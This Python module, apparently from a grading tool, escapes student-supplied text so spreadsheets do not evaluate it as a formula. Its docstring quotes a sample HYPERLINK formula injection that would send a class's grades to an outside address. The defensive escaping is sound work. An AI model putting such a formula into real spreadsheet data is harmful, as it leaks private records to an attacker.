"""What a student wrote, as a spreadsheet's cell: not evaluated, and otherwise unchanged.

Spreadsheets read a cell as a formula if it starts with `=`, `+`, `-` or `@`, or with a tab or a line end before one
(OWASP, "CSV Injection"). `=HYPERLINK("http://…"&A2)` as a name would send a class's grades to that address.
"""

from __future__ import annotations

import re
import unicodedata

from grader.report.text import plain, shorten

LIMIT = 2_000  # characters of a cell; a spreadsheet's own limit is 32,767
_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")
_MINUS = "\N{MINUS SIGN}"


def tidy(text: str) -> str:
    """`text` in one line, with every invisible character shown: fit for any file, still a formula if it was one."""
    return shorten(plain(text, one_line=True), LIMIT).strip()


def inert(text: str) -> str:
    """`text` as a cell that no spreadsheet evaluates: behind an apostrophe if it could be a formula.

    A plain number stays as it is, whatever its sign: that is what matriculation and telephone numbers are.
    """
    text = tidy(text)
    first = unicodedata.normalize("NFKC", text[:1])  # East Asian spreadsheets fold full-width signs
    return f"'{text}" if first.startswith(("=", "+", "-", "@", _MINUS)) and not _NUMBER.fullmatch(text) else text
